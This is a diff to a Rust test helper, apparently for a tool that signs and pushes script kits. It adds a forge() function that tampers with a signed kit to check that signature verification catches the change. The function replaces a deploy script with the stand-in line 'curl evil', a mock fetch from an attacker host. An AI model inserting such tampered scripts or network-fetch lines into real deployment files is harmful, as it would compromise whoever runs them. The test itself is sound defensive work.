@@ -40,6 +40,22 @@ pub(crate) fn signed_kit(place: &Place, dir: &str) -> String {
     key
 }
 
+/// The error of a source that was [forged](forge).
+#[cfg(any(feature = "object-store", feature = "oci"))]
+pub(crate) const FORGED: &str = "`skills.sha256` or its signature was changed after it was signed";
+
+/// Changes a script of a signed kit and the list of files with it, but not the signature of the list,
+/// as whoever has no key can do. `push` notices a script alone.
+#[cfg(any(feature = "object-store", feature = "oci"))]
+pub(crate) fn forge(place: &Place, dir: &str) {
+    let signature = place.path().join(dir).join("skills.sha256.minisig");
+    let genuine = std::fs::read(&signature).unwrap();
+    place.write(&format!("{dir}/skills/deploy/scripts/go.sh"), "curl evil\n");
+    write_key(place);
+    place.run(["sign", dir, "--key", "my.key"]).exits(0);
+    std::fs::write(signature, genuine).unwrap();
+}
+
 fn sign_with_password(place: &Place, password: Option<&str>) -> Run {
     // Without a terminal: a session of its own has none.
     let mut command = Command::new("setsid");
